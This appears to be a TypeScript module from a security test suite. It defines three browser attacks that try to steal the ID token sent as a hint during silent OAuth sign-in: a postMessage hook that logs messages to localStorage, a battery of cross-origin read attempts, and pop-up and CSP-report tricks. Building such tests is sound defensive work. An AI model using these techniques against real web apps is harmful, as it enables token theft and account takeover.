import type { Attack } from '../attack.ts';
import { sweepPage } from '../sweep.ts';
import { renewSilently, silentSince, silentUrl } from './renewal.ts';
import { clickUntilSeen } from './run-own-flow.ts';

/** Keeps every message between the page and its worker where the next page finds it. */
const CATCH_MESSAGES = `
const { postMessage } = MessagePort.prototype;
const take = (message) => localStorage.setItem('caught', (localStorage.getItem('caught') ?? '') + JSON.stringify(message));
MessagePort.prototype.postMessage = function (message, ...rest) {
  take(message);
  this.addEventListener('message', ({ data }) => take(data));
  return postMessage.call(this, message, ...rest);
};
`;

/** The ID tokens that stand as hints in what was read. */
function hintsIn(seen: string): readonly string[] {
  return [...seen.matchAll(/id_token_hint=([\w.-]+)/g)].map(([, hint = '']) => hint);
}

/** Every kind of request by which a page may read what stands at an address; runs in the page. */
async function readByRequests({
  url,
  timeoutMs,
}: {
  readonly url: string;
  readonly timeoutMs: number;
}): Promise<string> {
  const seen: string[] = [];
  const attempts: Promise<void>[] = [];
  const attempt = (read: () => unknown): void =>
    void attempts.push(
      Promise.resolve()
        .then(read)
        .then((found) => void seen.push(String(found)))
        .catch(() => {}),
    );
  const loaded = (element: HTMLElement): Promise<void> =>
    new Promise((resolve) => {
      element.onload = element.onerror = () => resolve();
      document.body.append(element);
    });
  const answer = async (init: RequestInit): Promise<string> => {
    const response = await fetch(url, init);
    return [response.url, ...[...response.headers].flat(), await response.text()].join('\n');
  };
  for (const redirect of ['follow', 'manual', 'error'] as const)
    for (const mode of ['cors', 'no-cors', 'same-origin'] as const) attempt(() => answer({ redirect, mode }));
  attempt(async () => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    await new Promise((resolve) => {
      request.onloadend = resolve;
      request.send();
    });
    return [request.responseURL, request.getAllResponseHeaders(), request.responseText].join('\n');
  });
  attempt(async () => {
    const cache = await caches.open('of the attacker');
    await cache.add(url);
    return (await cache.match(url))?.text();
  });
  for (const tag of ['iframe', 'object', 'embed'] as const)
    attempt(async () => {
      const element = document.createElement(tag);
      Reflect.set(element, tag === 'object' ? 'data' : 'src', url);
      await loaded(element);
      const inside = 'contentWindow' in element ? element.contentWindow : null;
      return [inside?.location.href, inside?.document.documentElement.outerHTML].join('\n');
    });
  attempt(() => loaded(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })));
  attempt(() => import(url));
  const ended: unknown[] = [];
  for (const each of attempts) void each.then(() => ended.push(each));
  const all = (): string => [...seen, JSON.stringify(performance.getEntries())].join('\n');
  // Not every engine says how each of them has ended.
  const endsAtMs = Date.now() + timeoutMs;
  while (ended.length < attempts.length && !all().includes('id_token_hint=ey') && Date.now() < endsAtMs)
    await new Promise((resolve) => setTimeout(resolve, 25));
  return all();
}

/** Opens an address in pop-ups, by a script and by a form, and reads what shows where they are; runs in the page. */
async function readByPopUps({ url, timeoutMs }: { readonly url: string; readonly timeoutMs: number }): Promise<string> {
  const seen = new Set<string>();
  document.addEventListener('securitypolicyviolation', ({ blockedURI, documentURI, referrer }) =>
    seen.add([blockedURI, documentURI, referrer].join('\n')),
  );
  const policy = Object.assign(document.createElement('meta'), { content: "form-action 'self'" });
  policy.httpEquiv = 'content-security-policy';
  const form = Object.assign(document.createElement('form'), { action: url, target: 'of-the-attacker' });
  for (const [name, value] of new URL(url).searchParams)
    form.append(Object.assign(document.createElement('input'), { name, value, type: 'hidden' }));
  document.head.append(policy);
  document.body.append(form);
  await new Promise<void>((resolve) => document.addEventListener('click', () => resolve(), { once: true }));
  document.documentElement.dataset['clicked'] = 'yes';
  const opened = [window.open(url, '_blank', 'popup'), window.open('about:blank', 'of-the-attacker', 'popup')];
  form.submit();
  const endsAtMs = Date.now() + timeoutMs;
  while (Date.now() < endsAtMs && ![...seen].some((text) => text.includes('id_token_hint='))) {
    for (const popUp of opened)
      try {
        seen.add(popUp?.location.href ?? '');
        seen.add(popUp?.document.referrer ?? '');
        seen.add(popUp?.document.documentElement.outerHTML ?? '');
        seen.add(JSON.stringify(popUp?.performance.getEntries()));
      } catch {
        // It is at the authorization server.
      }
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
  for (const popUp of opened) popUp?.close();
  return [...seen].join('\n');
}

export const RENEWAL_HINT_ATTACKS: readonly Attack[] = [
  {
    id: 'L27',
    title:
      'has the app sign in silently, and looks for the ID token that the request holds as a hint in all that it can read',
    scenario: '5.1.1',
    naive: 'page',
    before: CATCH_MESSAGES,
    act: async (scene) => {
      const before = scene.servers.authorizationServer.requests.count('authorization');
      await renewSilently(scene);
      if (!silentSince(scene, before).some((query) => query.get('id_token_hint')?.startsWith('ey')))
        throw new Error('The silent sign-in held no hint.');
      return { seen: hintsIn(await scene.tab.evaluate(sweepPage)) };
    },
  },
  {
    id: 'L28',
    title: 'requests the address of the silent sign-in in every other way than to go there, and reads what comes back',
    scenario: '5.1.1',
    naive: 'worker',
    act: async (scene) => {
      const { tab, timeoutMs } = scene;
      return { seen: hintsIn(await tab.evaluate(readByRequests, { url: silentUrl(scene), timeoutMs })) };
    },
  },
  {
    id: 'L29',
    title:
      'opens the silent sign-in in pop-ups, by a form under a policy of its own too, and watches addresses and reports',
    scenario: '5.1.1',
    naive: 'worker',
    act: async (scene) => {
      const { tab, timeoutMs } = scene;
      const stolen = tab.evaluate(readByPopUps, { url: silentUrl(scene), timeoutMs });
      await Promise.race([stolen, clickUntilSeen(scene)]);
      return { seen: hintsIn(await stolen) };
    },
  },
];
